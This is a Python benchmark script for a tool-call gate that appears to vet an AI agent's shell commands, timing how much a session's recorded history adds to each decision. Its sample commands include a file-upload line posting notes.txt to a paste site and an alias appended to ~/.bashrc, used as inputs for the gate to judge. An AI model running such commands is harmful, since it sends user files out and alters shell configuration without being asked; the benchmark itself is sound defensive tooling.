"""What the facts of a session add to a decision, and how long a cold one takes.

    python tests/benchmarks/facts.py [--entries N]... [--rounds N]

Makes a ledger whose one session has N entries (half decisions, half outcomes; one call in
five writes a file, a few give names, links or settings a meaning), then decides with the
session read from it, each time from nothing, as a new process does: the session's index is
opened and read each round, and so is the command, with and without a session: a gate that has
decided before would know the text where no session is. With --plain nothing is given a meaning.
Times are CPU
milliseconds, the median of all rounds; "adds" is the difference to the same decision without
a session. What a hook's append itself costs is not part of it.
"""

import argparse
import os
import statistics
import tempfile
import time
from collections.abc import Callable

from toolgate.canonical import warm
from toolgate.gate.call import Place, ToolCall
from toolgate.gate.engine import Gate
from toolgate.gate.facts.session import NOTHING
from toolgate.gate.open import build_digest, default_gate, second_opinion
from toolgate.gate.recorded import fields_of
from toolgate.hook.facts import LedgerSession
from toolgate.ledger.append import Ledger

CWD = "/home/dev/app"
SALT = b"s" * 32
SESSION = "s1"
GROUP = 256
KEPT = {
    7: "ln -s ../notes notes",
    9: "git clone https://git.example/o/lib vendor/lib",
    11: "git config alias.st 'status -sb'",
    13: "echo \"alias ll='ls -l'\" >> ~/.bashrc",
}
"""Calls early in the session after which names, links and settings have to be looked up."""

CALLS = {
    "looks": "git status && cat src/main.py | head -20",
    "runs a file written long ago": "bash run1.sh",
    "runs a file written just now": "bash latest.sh",
    "runs a file nobody wrote": "bash scripts/build.sh",
    "runs the project's tests": "npm test",
    "sends out": "curl -d @notes.txt https://paste.example",
}


def call(number: int, command: str) -> ToolCall:
    return ToolCall(
        host="bench",
        session=SESSION,
        key="p",
        call=f"c{number}",
        agent=("main",),
        principal="user:dev",
        auth_mode="user",
        tool="Bash",
        input={"command": command},
        place=Place(CWD, (CWD,), "/home/dev"),
        mode=None,
        task=None,
        ts=1_800_000_000_000_000 + number * 1000,
    )


def command_of(number: int, last: int, *, kept: bool) -> str:
    if number == last:
        return "echo 'echo hello' > latest.sh"
    if kept and number in KEPT:
        return KEPT[number]
    if number % 50 == 3:
        return "curl -s https://docs.example/page"
    return f"echo 'echo hello' > run{number}.sh" if number % 5 == 1 else f"grep -rn x{number} src"


def fill(gate: Gate, root: str, entries: int, *, kept: bool) -> None:
    """Write a session of so many entries."""
    ledger, build = Ledger(root), build_digest()
    last = entries // 2 - 1
    calls = [call(n, command_of(n, last, kept=kept)) for n in range(last + 1)]
    for at in range(0, len(calls), GROUP):
        part = calls[at : at + GROUP]
        fields = [
            fields_of(
                one, gate.decide(one), call_id=one.call or "", salt=SALT, ts=one.ts, build=build
            )
            for one in part
        ]
        ledger.decide_many(SESSION, key="p", fields=fields, policy=gate.policy_bytes, ts=part[0].ts)
        for one, decided in zip(part, fields, strict=True):
            ledger.outcome(
                SESSION,
                key="p",
                call=one.call,
                tool=one.tool,
                args_digest=decided.args_digest,
                result_digest=decided.args_digest,
                terminal_state="ok",
                source="hook",
                ts=one.ts + 500,
            )


def timed(rounds: int, known: Gate, run: Callable[[Gate], None]) -> float:
    """Return the median CPU time of a round, in milliseconds; each has a gate of its own."""
    found = []
    for _ in range(rounds):
        gate = Gate(known.policy, known.catalog, second_opinion)
        begun = time.process_time_ns()
        run(gate)
        found.append((time.process_time_ns() - begun) / 1e6)
    return statistics.median(found)


def measure(gate: Gate, root: str, rounds: int) -> None:
    ledger = Ledger(root)
    path = os.path.join(root, "sessions", SESSION + ".jsonl")

    def decide(gate: Gate, one: ToolCall, *, known: bool) -> None:
        if not known:
            gate.decide(one, NOTHING)
            return
        session = LedgerSession(ledger, SESSION, "p", SALT)
        try:
            gate.decide(one, session)
        finally:
            session.close()

    first = call(10**9, CALLS["runs a file written long ago"])
    index = path.removesuffix(".jsonl") + ".facts"
    if os.path.exists(index):
        os.unlink(index)
    rebuilt = timed(1, gate, lambda gate: decide(gate, first, known=True))
    print(f"  session {os.path.getsize(path):,} bytes, index {os.path.getsize(index):,} bytes")
    print(f"  {rebuilt:8.3f} ms  the index made again from the session's file, once")
    for name, command in CALLS.items():
        one = call(10**9, command)
        alone = timed(rounds, gate, lambda gate, one=one: decide(gate, one, known=False))
        with_facts = timed(rounds, gate, lambda gate, one=one: decide(gate, one, known=True))
        print(f"  {with_facts:8.3f} ms, facts add {with_facts - alone:6.3f} ms: {name}")


def main() -> None:
    parser = argparse.ArgumentParser(description=(__doc__ or "").split("\n")[0])
    parser.add_argument("--entries", type=int, action="append", help="size of the session")
    parser.add_argument("--rounds", type=int, default=100)
    parser.add_argument("--plain", action="store_true", help="nothing is given a meaning")
    options = parser.parse_args()
    warm()
    gate = default_gate()
    for entries in options.entries or [5_000, 50_000]:
        with tempfile.TemporaryDirectory() as folder:
            root = os.path.join(folder, "ledger")
            fill(gate, root, entries, kept=not options.plain)
            print(f"a session of {entries:,} entries")
            measure(gate, root, options.rounds)


if __name__ == "__main__":
    main()
